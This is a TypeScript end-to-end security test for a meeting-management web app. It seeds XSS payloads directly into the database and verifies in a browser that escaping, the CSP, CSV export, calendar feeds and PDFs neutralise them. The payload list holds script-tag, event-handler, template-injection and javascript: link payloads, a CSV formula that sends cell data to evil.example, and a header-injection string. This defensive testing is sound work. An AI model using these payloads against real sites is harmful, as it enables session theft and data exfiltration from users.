// Script never runs: a corpus of XSS payloads written into every text the app
// shows again (titles, rich text with javascript: links, names, attendance,
// corrections, imported documents, projects, calls, units...), straight into
// the server's database so that no input check stands in front of the output
// escaping. Then the pages are rendered in Chromium: no dialog, no flag set by
// a payload, no CSP violation (an injection the escaping let through), no
// javascript: link. The CSV cells are formula-safe, the calendar feed keeps its
// structure and the PDFs render the payloads as text. And the CSP is a second
// line: an inline script without the nonce does not run.
import path from "node:path";
import SQLite from "better-sqlite3";
import type { Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import { pdfText } from "../setup/pdf";
import { newContext, screenshot, signIn, useApp } from "./browser";

const app = useApp();

const FLAG = "window.__xss=1";
const PAYLOADS = [
  `<script>${FLAG}</script>`,
  `"><img src=x onerror="${FLAG}">`,
  `'><svg onload=${FLAG}>`,
  `</textarea></title><script>${FLAG}</script>`,
  `{{constructor.constructor('${FLAG}')()}}`,
  `=HYPERLINK("http://evil.example/?"&A1,"klick")`,
  `\u202eRTL\r\nX-INJECTED:1`,
];
const TEXT = PAYLOADS.join(" ");
const JS_URL = `javascript:${FLAG}`;
const RICH = JSON.stringify({
  type: "doc",
  content: [
    { type: "paragraph", content: [{ type: "text", text: TEXT }] },
    { type: "paragraph", content: [{ type: "text", text: "länk", marks: [{ type: "link", attrs: { href: JS_URL } }] }] },
    { type: "paragraph", content: [{ type: "text", text: "data", marks: [{ type: "link", attrs: { href: `data:text/html,<script>${FLAG}</script>` } }] }] },
    { type: "paragraph", content: [{ type: "text", text: "img", marks: [{ type: "link", attrs: { href: "https://ok.example", onclick: FLAG } }] }] },
  ],
});

/** Every column that holds a text the app shows again, per table. */
const SHOWN: Record<string, string[]> = {
  unit: ["name", "organisation"],
  user: ["name", "title"],
  group: ["name", "description"],
  membership: ["represents"],
  standing_item: ["title", "presentation"],
  meeting: ["title", "place"],
  attendance: ["name", "represents"],
  agenda_section: ["title"],
  agenda_item: ["title", "presentation", "presenter", "background_text", "proposal_text", "decision_text"],
  funding_call: ["title", "programme_area", "description"],
  per_capsulam_decision: ["title", "decision_text", "participants"],
  project: ["name", "owner", "contact_name", "partners", "summary_text"],
  mandate: ["task", "due_text"],
  mandate_entry: ["body"],
  stance: ["reason"],
  approval: ["comment"],
  correction: ["before_text", "after_text", "reason"],
  imported_document: ["filename", "text"],
  document: ["title"],
  document_version: ["filename"],
};
const RICH_COLUMNS: Record<string, string[]> = {
  agenda_item: ["background_json", "proposal_json", "decision_json"],
  per_capsulam_decision: ["decision_json"],
  project: ["summary_json"],
};
const URL_COLUMNS: Record<string, string[]> = { funding_call: ["url"], project: ["url"] };

let ids: { meetings: number[]; mandates: number[]; projects: number[]; calls: number[]; groups: number[]; items: Array<[number, number]> };
let calendarToken: string;

beforeAll(() => {
  // Approved minutes are locked by triggers: lifted for the write, put back after.
  const db = new SQLite(path.join(app.server.dataDir, "styrbord.db"));
  db.pragma("busy_timeout = 10000");
  const triggers = db.prepare("select name, sql from sqlite_master where type = 'trigger' and sql is not null").all() as Array<{ name: string; sql: string }>;
  db.transaction(() => {
    for (const t of triggers) db.exec(`drop trigger "${t.name}"`);
    for (const [table, columns] of Object.entries(SHOWN)) {
      for (const column of columns) db.prepare(`update "${table}" set "${column}" = ? || coalesce(substr("${column}", 1, 20), '')`).run(TEXT + " ");
    }
    for (const [table, columns] of Object.entries(RICH_COLUMNS)) for (const column of columns) db.prepare(`update "${table}" set "${column}" = ? where "${column}" is not null or 1`).run(RICH);
    for (const [table, columns] of Object.entries(URL_COLUMNS)) for (const column of columns) db.prepare(`update "${table}" set "${column}" = ?`).run(JS_URL);
    db.prepare("update user set calendar_token = 'xss-calendar-token-0123456789abc' where email = 'sekreterare@ask.example'").run();
    for (const t of triggers) db.exec(t.sql);
  })();
  const all = (sql: string) => (db.prepare(sql).all() as Array<{ id: number }>).map((r) => r.id);
  ids = {
    meetings: all("select id from meeting order by meeting_date desc limit 6"),
    mandates: all("select id from mandate order by id limit 4"),
    projects: all("select id from project order by id limit 3"),
    calls: all("select id from funding_call order by id limit 2"),
    groups: all("select id from \"group\""),
    items: (db.prepare("select meeting_id as m, id from agenda_item order by id desc limit 3").all() as Array<{ m: number; id: number }>).map((r) => [r.m, r.id]),
  };
  calendarToken = "xss-calendar-token-0123456789abc";
  db.close();
});

async function watch(page: Page) {
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) => w.__violations.push(`${e.violatedDirective} ${e.sample}`));
  });
  return dialogs;
}

async function expectNoScriptRan(page: Page, url: string, dialogs: string[]) {
  const response = await page.goto(url);
  expect(response?.status(), url).toBeLessThan(400);
  const state = await page.evaluate(() => {
    const w = window as unknown as { __xss?: number; __violations: string[] };
    return {
      flag: w.__xss ?? null,
      violations: w.__violations,
      jsLinks: [...document.querySelectorAll("a[href], area[href], form[action], iframe[src]")]
        .map((e) => e.getAttribute("href") ?? e.getAttribute("action") ?? e.getAttribute("src") ?? "")
        .filter((h) => /^\s*(javascript|data|vbscript):/i.test(h)),
      handlers: [...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length,
      // The app's own scripts carry the nonce attribute; a script the page was tricked into would not.
      injectedScripts: [...document.scripts].filter((s) => !s.hasAttribute("nonce")).length,
    };
  });
  expect(state, url).toEqual({ flag: null, violations: [], jsLinks: [], handlers: 0, injectedScripts: 0 });
  expect(dialogs, url).toEqual([]);
}

describe("XSS payloads in every text shown again", () => {
  it("run no script on any page the secretary, a member and the administrator open", { timeout: 300_000 }, async () => {
    for (const [email, extra] of [
      ["sekreterare@ask.example", () => [...ids.groups.flatMap((g) => [`/groups/${g}/members`, `/groups/${g}/per-capsulam`, `/groups/${g}/protocol`, `/groups/${g}/standing-items`]), "/meetings/new", "/meetings/import"]],
      ["ledamot@ask.example", () => []] as const,
      ["admin@ask.example", () => ["/admin", "/admin/users", "/admin/units", "/admin/groups", "/admin/mail", "/admin/notifications", ...ids.groups.map((g) => `/admin/groups/${g}`)]],
    ] as const) {
      const context = await newContext(app.browser);
      const page = await context.newPage();
      const dialogs = await watch(page);
      await signIn(page, email);
      const everyone = [
        "/",
        "/meetings",
        "/mandates",
        "/projects",
        "/deadlines",
        "/profile",
        "/search?q=script",
        ...ids.meetings.flatMap((m) => [`/meetings/${m}`, `/meetings/${m}/agenda`]),
        ...ids.items.map(([m, i]) => `/meetings/${m}/items/${i}/documents`),
        ...ids.mandates.map((m) => `/mandates/${m}`),
        ...ids.projects.flatMap((p) => [`/projects/${p}`, `/projects/${p}/edit`]),
        ...ids.calls.map((c) => `/calls/${c}/edit`),
      ];
      // The member reads what the secretary reads (checked once, by the secretary); the administrator reads the admin pages.
      const urls = email === "sekreterare@ask.example" ? [...everyone, ...extra()] : email === "admin@ask.example" ? extra() : ["/", "/meetings", `/meetings/${ids.meetings[0]}`, "/mandates"];
      for (const url of urls) {
        const status = (await page.request.get(url, { maxRedirects: 0 })).status();
        if (status === 403 || status === 404) continue; // not this visitor's page
        await expectNoScriptRan(page, url, dialogs);
      }
      if (email === "sekreterare@ask.example") {
        await page.goto(`/meetings/${ids.meetings[0]}`);
        await screenshot(page, "xss-meeting-secretary");
      }
      await context.close();
    }
  });

  it("the CSP stops an inline script without the nonce, as a second line", async () => {
    const context = await newContext(app.browser);
    const page = await context.newPage();
    await signIn(page, "sekreterare@ask.example");
    await page.goto("/meetings/new");
    const ran = await page.evaluate(async () => {
      const s = document.createElement("script");
      s.textContent = "window.__csp = 1";
      document.body.append(s);
      const img = document.createElement("img");
      img.setAttribute("onerror", "window.__csp = 2");
      img.src = "/no-such-image.png";
      document.body.append(img);
      await new Promise((r) => setTimeout(r, 300));
      return (window as unknown as { __csp?: number }).__csp ?? null;
    });
    expect(ran).toBeNull();
    await context.close();
  });

  it("writes CSV cells that Excel cannot run, a calendar feed that keeps its structure, and PDFs with the payloads as text", { timeout: 120_000 }, async () => {
    const context = await newContext(app.browser);
    const page = await context.newPage();
    await signIn(page, "sekreterare@ask.example");
    const csv = await (await page.request.get("/mandates.csv")).text();
    const cells = csv
      .replace(/^\uFEFF/, "")
      .split("\r\n")
      .flatMap((line) => line.split(";"))
      .map((c) => c.replace(/^"|"$/g, ""));
    expect(cells.some((c) => c.includes("HYPERLINK"))).toBe(true);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    const ics = await (await page.request.get(`/calendar/${calendarToken}.ics`)).text();
    expect(ics).toContain("BEGIN:VCALENDAR");
    expect(ics.split(/\r?\n/).filter((l) => l.startsWith("X-INJECTED"))).toEqual([]);

    for (const m of ids.meetings.slice(0, 1)) {
      for (const kind of ["agenda.pdf", "notice.pdf", "minutes.pdf"]) {
        const response = await page.request.get(`/meetings/${m}/${kind}`);
        if (response.status() === 404) continue;
        expect(response.status(), `${m} ${kind}`).toBe(200);
        expect(await pdfText(await response.body())).toContain("<script>");
      }
    }
    await context.close();
  });
});
